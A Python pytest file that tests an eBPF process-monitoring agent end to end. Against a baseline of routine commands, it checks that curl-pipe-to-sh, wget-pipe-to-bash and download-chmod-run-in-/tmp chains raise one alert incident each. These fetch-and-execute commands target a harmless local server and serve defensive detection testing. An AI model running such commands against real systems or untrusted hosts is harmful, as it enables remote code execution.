"""Real intrusion chains, end to end, as root: the eBPF agent captures a real `curl … | sh`, a
`wget -qO- … | bash` and a drop-chmod-run in /tmp, the receiver scores them, and each chain is an alert
in ClickHouse whose events share one incident.

Nothing is staged: a small HTTP server on 127.0.0.1 serves the script and the "binary" (a copy of
/bin/true), each chain is typed into a plain `bash` reading its stdin (as an attacker's shell would
run it, so no command line names the pipe), and the agent (`otel_agent`, eBPF mode) sends what it sees to
the receiver (`Service`, chdb). The baseline has first learned this host's normal: rounds of routine
commands typed the same way, including pipelines and a curl health check, past the scoring's warm-up,
so the chains are judged against a workload that knows curl, pipes and bash.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import TABLE, Stack, receiver_config, running_stack

from core.confmap import decode
from otel_agent.agent import Agent, create_agent
from otel_agent.config import AgentConfig
from otel_agent.tests.conftest import bcc_missing
from testing import serving_files
from testing.otlp_sink import OtlpSink

pytestmark = pytest.mark.skipif(bool(bcc_missing()), reason=bcc_missing() or "eBPF available")

SCRIPT = b"uname -m >/dev/null\nid -u >/dev/null\n"
ROUTINE = [  # what this host normally runs, typed into the same kind of shell as the chains
    "ls -la /etc >/dev/null",
    "ps aux | grep -c root >/dev/null",
    "df -h >/dev/null",
    "date +%s >/dev/null",
    "uname -r >/dev/null",
    "cat /etc/hostname | tr a-z A-Z >/dev/null",
    "curl -s -o /dev/null {url}/health",
    "find /etc -maxdepth 1 -name '*.conf' | wc -l >/dev/null",
    "sleep 0.1",
]
WARMUP_ROUNDS = 5


@pytest.fixture(scope="module")
def served() -> Iterator[str]:
    files = {"/health": b"ok\n", "/setup.sh": SCRIPT, "/update": Path("/bin/true").read_bytes()}
    with serving_files(files) as base_url:
        yield base_url


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Stack, Agent, str]]:
    """The receiver with the scoring's default warm-up, and the eBPF agent sending to it under its own workload."""
    if shutil.which("curl") is None or shutil.which("wget") is None:
        pytest.skip("needs curl and wget")
    tmp_path = tmp_path_factory.mktemp("chains")
    config = receiver_config(tmp_path, {})
    del config["processors"]["anomaly"]["learning"]  # the default warm-up: this test earns its baseline
    workload = "e2e-chains-" + uuid.uuid4().hex[:8]
    with OtlpSink() as unused_sink, running_stack(tmp_path, config, unused_sink) as stack:
        agent = create_agent(decode(AgentConfig, {
            "mode": "ebpf", "workload": workload,
            "exporter": {"endpoint": stack.service.grpc_endpoint(), "timeout": "5s"},
            "spool": {"directory": str(tmp_path / "spool")},  # batching as shipped: 1 s
        }, "test"))
        agent.start()
        try:
            yield stack, agent, workload
        finally:
            agent.stop()


def type_into_bash(commands: str) -> int:
    """Runs `commands` in a bash reading them from its stdin; returns that bash's pid."""
    shell = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, cwd="/tmp")
    shell.communicate(commands.encode(), timeout=60)
    return shell.pid


def rows_below(stack: Stack, workload: str, root: int, programs: set[str], timeout: float = 90.0
               ) -> list[dict[str, Any]]:
    """The exec rows of `root`'s descendants, once every program in `programs` is among them."""
    deadline = time.monotonic() + timeout
    found: list[dict[str, Any]] = []
    while time.monotonic() < deadline:
        rows = stack.clickhouse.query(
            "SELECT LogAttributes AS attributes, AnomalySeverity AS severity, AnomalyScore AS score, "
            f"RecordId AS record FROM {TABLE} "
            "WHERE ResourceAttributes['procsight.workload'] = {workload:String} AND EventName = 'process.exec'",
            {"workload": workload})
        found = descendants(rows, root)
        if programs <= {row["attributes"]["process.executable.name"] for row in found}:
            return found
        time.sleep(0.5)
    names = sorted(row["attributes"]["process.executable.name"] for row in found)
    raise AssertionError(f"below pid {root} expected {sorted(programs)}, ClickHouse has {names}")


def descendants(rows: list[dict[str, Any]], root: int) -> list[dict[str, Any]]:
    children: dict[int, list[dict[str, Any]]] = {}
    for row in rows:
        parent = int(row["attributes"].get("process.parent_pid") or 0)
        children.setdefault(parent, []).append(row)
    found, pending = [], [root]
    while pending:
        for row in children.get(pending.pop(), []):
            found.append(row)
            pending.append(int(row["attributes"]["process.pid"]))
    return found


def describe(rows: list[dict[str, Any]]) -> str:
    """One line per event, for a failure message: what scored what, and why."""
    return "\n".join(
        f"  {row['attributes'].get('process.command_line', '')[:60]:60s} {row['severity'] or '-':5s} "
        f"{row['score']:.3f} incident={row['attributes'].get('anomaly_incident', '')} "
        f"stdin={row['attributes'].get('procsight.stdin', '')} stdout={row['attributes'].get('procsight.stdout', '')} "
        f"record={row['record']} reasons={row['attributes'].get('anomaly_reasons', '')}" for row in rows)


@pytest.fixture(scope="module")
def warmed(host: tuple[Stack, Agent, str], served: str) -> tuple[Stack, Agent, str]:
    stack, _, workload = host
    routine = "\n".join(ROUTINE).format(url=served) + "\n"
    for _ in range(WARMUP_ROUNDS):
        last = type_into_bash(routine)
    rows_below(stack, workload, last, {"ls", "ps", "grep", "curl", "find", "wc", "sleep"})
    return host


def assert_one_alerting_incident(rows: list[dict[str, Any]]) -> None:
    incidents = {row["attributes"].get("anomaly_incident", "") for row in rows}
    assert any(row["severity"] == "alert" for row in rows), "no event of the chain alerted:\n" + describe(rows)
    assert len(incidents) == 1 and "" not in incidents, "the chain's events do not share one incident:\n" + \
        describe(rows)


def test_curl_piped_into_sh_alerts_as_one_incident(warmed, served):
    stack, _, workload = warmed
    shell = type_into_bash(f"curl -s {served}/setup.sh | sh\n")
    assert_one_alerting_incident(rows_below(stack, workload, shell, {"curl", "sh", "uname", "id"}))


def test_wget_piped_into_bash_alerts_as_one_incident(warmed, served):
    stack, _, workload = warmed
    shell = type_into_bash(f"wget -qO- {served}/setup.sh | bash\n")
    assert_one_alerting_incident(rows_below(stack, workload, shell, {"wget", "bash", "uname", "id"}))


def test_download_chmod_run_in_tmp_alerts_as_one_incident(warmed, served):
    stack, _, workload = warmed
    dropped = f"/tmp/update-{uuid.uuid4().hex[:8]}"
    try:
        shell = type_into_bash(f"curl -s -o {dropped} {served}/update\nchmod +x {dropped}\n{dropped}\n")
        rows = rows_below(stack, workload, shell, {"curl", "chmod", os.path.basename(dropped)})
    finally:
        Path(dropped).unlink(missing_ok=True)
    assert_one_alerting_incident(rows)
